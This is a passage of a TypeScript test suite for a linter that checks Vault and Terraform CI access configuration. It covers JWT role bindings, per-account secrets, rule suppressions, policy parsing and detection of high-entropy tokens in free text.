  it("ADOPT-003 accepts adopt.create naming a resource of the stack", () => {
    expect(findings("ADOPT-003", inData((c) => (c.adopt = { create: ["vault_policy.kv-read_secret_nexus_svc-executor"] })))).toEqual([]);
  });

  it("PIPE-007 checks nothing without a pipeline section, not even Vault resources it has no capabilities for", () => {
    expect(findings("PIPE-007", (i) => (i.tf.resource.vault_approle_auth_backend_role = { x: {} }))).toEqual([]);
  });

  it("POL rules ignore policies that no CI role carries", () => {
    expect(findings("POL-002", (i) => (policy(i, "kv-read_secret_nexus_svc-deployer").policy = readPolicy("secret/data/nexus/svc-deployer", '"read", "list"')))).toEqual([]);
  });
});

describe("the runner", () => {
  it("lists every violation of every rule, not just the first", () => {
    const input = inputFor();
    role(input).role_type = "oidc";
    role(input).bound_claims_type = "glob";
    vaultAddr(input).masked = true;
    const { violations } = checkConfiguration(asInput(input));
    expect(violations.map((v) => v.rule.id)).toEqual(["JWT-001", "JWT-005", "VAR-002"]);
  });

  it("formats a violation as RULE-ID file:field-path: message (fix: ...)", () => {
    const input = inputFor();
    input.config.accounts[1].permissions = ["rpm:read-write"];
    input.config.accounts.push({ ...input.config.accounts[1], name: "svc-rpm" });
    resynthesize(input);
    role(input).bound_claims_type = "glob";
    const { violations } = checkConfiguration(asInput(input));
    expect(violations.map((v) => formatViolation(v, "access.yaml", "cdktf.out/stacks/cwiq/cdk.tf.json"))).toEqual([
      'JWT-005 cdktf.out/stacks/cwiq/cdk.tf.json:vault_jwt_auth_backend_role.nexus-ci.bound_claims_type: is "glob", must be "string" (fix: use boundClaimsType "string" (one exact value per claim))',
      'ACC-004 access.yaml:accounts[3].permissions: ["rpm:read-write"] is the same scope as svc-executor (fix: reuse the account with that scope, or add justification: "<why a separate account>" to the new entry)',
    ]);
  });

  it("waives a finding of a waivable rule only for the entry whose suppression names it, and reports it with its reason", () => {
    const input = inputFor();
    role(input).bound_claims = { ...role(input).bound_claims, project_id: "9" };
    input.trust.bindings.projectIds = [9];
    input.config.roles[0].suppress = [{ rule: "JWT-013", reason: "project 9 is really meant here, see INFRA-42" }];
    const report = checkConfiguration(asInput(input));
    expect(report.violations).toEqual([]);
    expect(report.suppressed.map((s) => [s.rule.id, s.entry, s.reason])).toEqual([["JWT-013", { list: "roles", name: "nexus-ci" }, "project 9 is really meant here, see INFRA-42"]]);
  });

  it("never waives a rule that is not on the documented allow-list: the finding stays and SUP-002 names the suppression", () => {
    const input = inputFor();
    role(input).bound_claims_type = "glob";
    input.config.roles[0].suppress = [{ rule: "JWT-005", reason: "temporary: release branches matched by glob until #123" }];
    const report = checkConfiguration(asInput(input));
    expect(report.violations.map((v) => `${v.rule.id} ${v.path}: ${v.message}`)).toEqual([
      'JWT-005 vault_jwt_auth_backend_role.nexus-ci.bound_claims_type: is "glob", must be "string"',
      "SUP-002 roles[0].suppress[0].rule: JWT-005 cannot be waived (waivable: JWT-013, POL-007, ADOPT-001)",
    ]);
    expect(report.suppressed).toEqual([]);
    expect(waivableIds()).toEqual(["JWT-013", "POL-007", "ADOPT-001"]);
  });

  it("does not let a suppression on one entry waive the same rule on another", () => {
    const input = inputFor();
    input.config.accounts.push({ ...input.config.accounts[1], name: "svc-executor2", suppress: [] });
    input.config.accounts.push({ ...input.config.accounts[1], name: "svc-executor3", suppress: [{ rule: "ADOPT-001", reason: "a reason that is long enough to pass" }] });
    input.config.adopt = { create: [] };
    const report = runRules(RULES.filter((r) => r.id === "ADOPT-001"), asInput(input));
    expect(report.violations.map((v) => v.path)).toEqual(["accounts[0].passwordVersion", "accounts[1].passwordVersion", "accounts[2].passwordVersion", "accounts[3].passwordVersion"]);
    expect(report.suppressed.map((v) => v.path)).toEqual(["accounts[4].passwordVersion"]);
  });

  it("waives only the rule a suppression names, not every finding on its entry", () => {
    const input = inputFor();
    role(input).bound_claims_type = "glob";
    input.config.roles[0].suppress = [{ rule: "JWT-013", reason: "names another rule than the glob finding" }];
    const report = checkConfiguration(asInput(input));
    expect(report.violations.map((v) => `${v.rule.id} ${v.path}`)).toEqual([
      "JWT-005 vault_jwt_auth_backend_role.nexus-ci.bound_claims_type",
      "SUP-001 roles[0].suppress[0].rule",
    ]);
    expect(report.suppressed).toEqual([]);
  });

  it("refuses a stack with no resources and no variables: each account's secret, password variable and guard are missing", () => {
    const input = inputFor();
    input.tf = {};
    expect(checkConfiguration(asInput(input)).violations.map((v) => `${v.rule.id} ${v.path}: ${v.message}`)).toEqual([
      "ACC-001 accounts[0]: has 0 secrets at nexus/svc-orchestrator, must have exactly one",
      "ACC-001 accounts[1]: has 0 secrets at nexus/svc-executor, must have exactly one",
      "ACC-001 accounts[2]: has 0 secrets at nexus/svc-deployer, must have exactly one",
      "ACC-005 variable.svc_orchestrator_password: must exist and be sensitive and ephemeral",
      "ACC-005 variable.svc_executor_password: must exist and be sensitive and ephemeral",
      "ACC-005 variable.svc_deployer_password: must exist and be sensitive and ephemeral",
      "DATA-001 terraform_data.account_guard: must exist with lifecycle.prevent_destroy: without it, deleting an account entry deletes its secret",
    ]);
  });

  it("reports a role the data file does not declare once (JWT-012), not as a CI reader role", () => {
    const input = inputFor();
    input.tf.resource.vault_jwt_auth_backend_role.stray = { ...role(input), role_name: "stray-ci", role_type: "oidc", bound_claims_type: "glob" };
    expect(checkConfiguration(asInput(input)).violations.map((v) => `${v.rule.id} ${v.path}`)).toEqual(["JWT-012 vault_jwt_auth_backend_role.stray.role_name"]);
  });

  it("rejects a stale suppression and one that names no rule (SUP-001), pointing at the data file", () => {
    const input = inputFor();
    input.config.roles[0].suppress = [
      { rule: "POL-007", reason: "nothing to waive any more, the path was removed" },
      { rule: "JWT-999", reason: "typo in the rule id, should be caught" },
    ];
    expect(checkConfiguration(asInput(input)).violations.map((v) => formatViolation(v, "access.yaml", "cdk.tf.json"))).toEqual([
      `SUP-001 access.yaml:roles[0].suppress[0].rule: POL-007 finds nothing on nexus-ci: the suppression is stale (fix: ${suppressionsApply.fix})`,
      `SUP-001 access.yaml:roles[0].suppress[1].rule: "JWT-999" is not a rule of the pack (fix: ${suppressionsApply.fix})`,
    ]);
    // SUP-001 has no check of its own: checkConfiguration finds stale suppressions, so runRules alone never reports one.
    expect(suppressionsApply.check(asInput(input))).toEqual([]);
  });
});

describe("parsePolicyRules", () => {
  it("reads path blocks and capabilities, ignoring comment lines", () => {
    expect(parsePolicyRules('# c\npath "a/b" {\n  capabilities = ["read", "list"]\n}\npath "c" { capabilities = [] }\n')).toEqual([
      { path: "a/b", capabilities: ["read", "list"] },
      { path: "c", capabilities: [] },
    ]);
  });

  it("reads any amount of whitespace between the tokens, and indented comment lines, also inside a block", () => {
    expect(parsePolicyRules('path  "a"{capabilities=["read"]}\n  # why\npath "b" {\n  # why\n  capabilities  =  [ "read" ]  \n}')).toEqual([
      { path: "a", capabilities: ["read"] },
      { path: "b", capabilities: ["read"] },
    ]);
  });

  it("keeps a # inside a path: only whole lines are comments", () => {
    expect(parsePolicyRules('path "secret/data/a#b" { capabilities = ["read"] }')).toEqual([{ path: "secret/data/a#b", capabilities: ["read"] }]);
  });

  it("returns undefined for anything else, so POL-004 refuses it", () => {
    expect(parsePolicyRules('path "a" { capabilities = ["read"] }\nfoo = 1')).toBeUndefined();
    expect(parsePolicyRules('path "a" { capabilities = [read] }')).toBeUndefined();
    expect(parsePolicyRules('path "a" { capabilities = [x"read"] }')).toBeUndefined();
    expect(parsePolicyRules('path "a" { capabilities = ["read"x] }')).toBeUndefined();
    expect(parsePolicyRules('path "a" { capabilities = ["read"] denied_parameters = {} }')).toBeUndefined();
  });
});

describe("the rule table of docs/RULES.md", () => {
  it("is generated from the pack (run `npm run rules` after changing a rule)", () => {
    const doc = readFileSync(join(__dirname, "..", "docs", "RULES.md"), "utf8");
    expect(doc).toBe(withRuleTable(doc, DOCUMENTED_RULES, parse(readFileSync(join(ROOT, "test", "fixtures", "attacks", "attacks.yaml"), "utf8"))));
  });
});

describe("views shared by the rules of one run (rules/context.ts once)", () => {
  it("computes a view once per RuleInput and view name, and again for another input or another view", () => {
    const a = {} as RuleInput;
    const b = {} as RuleInput;
    let calls = 0;
    const compute = () => ({ call: ++calls });
    const first = once(a, "view", compute);
    expect(once(a, "view", compute)).toBe(first);
    expect(calls).toBe(1);
    expect(once(a, "other", compute)).toEqual({ call: 2 });
    expect(once(b, "view", compute)).toEqual({ call: 3 });
    // A view whose value is undefined is still computed once.
    let undefinedCalls = 0;
    once(a, "nothing", () => void undefinedCalls++);
    once(a, "nothing", () => void undefinedCalls++);
    expect(undefinedCalls).toBe(1);
  });
});

describe("edges of the trust and free-text rules", () => {
  it("TRUST-004 takes a role exactly at the limits (tokenNumUses 50, TTLs of 1h)", () => {
    expect(findings("TRUST-004", (i) => Object.assign(i.config.roles[0], { tokenTtl: "1h", tokenMaxTtl: "3600s", tokenNumUses: 50 }))).toEqual([]);
  });

  it("TEXT-001 reads a role's suppression reasons, at their own paths", () => {
    expect(
      findings("TEXT-001", (i) => {
        i.config.roles[0].suppress = [{ rule: "JWT-013", reason: "line one of a reason\nline two of the reason" }];
      }),
    ).toEqual([expect.stringMatching(/^roles\[0\]\.suppress\[0\]\.reason: is not one line of printable text/)]);
  });

  it("TEXT-002 counts its position in characters, as TEXT-001 does (a letter outside the BMP is one)", () => {
    expect(findings("TEXT-002", (i) => (i.config.workloads[0].description = "\u{1d538} q7RkX2mZp9LwT4vB"))).toEqual(["workloads[0].description: holds a high-entropy token at character 3 (a key or token?)"]);
  });

  it("locates a stack finding's entry by name, and nothing for a name the data file does not declare", () => {
    const config = inputFor().config as unknown as Config;
    expect(entryPathIn(config)({ list: "accounts", name: "svc-deployer" })).toEqual(["accounts", 2]);
    expect(entryPathIn(config)({ list: "roles", name: "nexus-ci" })).toEqual(["roles", 0]);
    expect(entryPathIn(config)({ list: "accounts", name: "svc-nobody" })).toBeUndefined();
  });
});
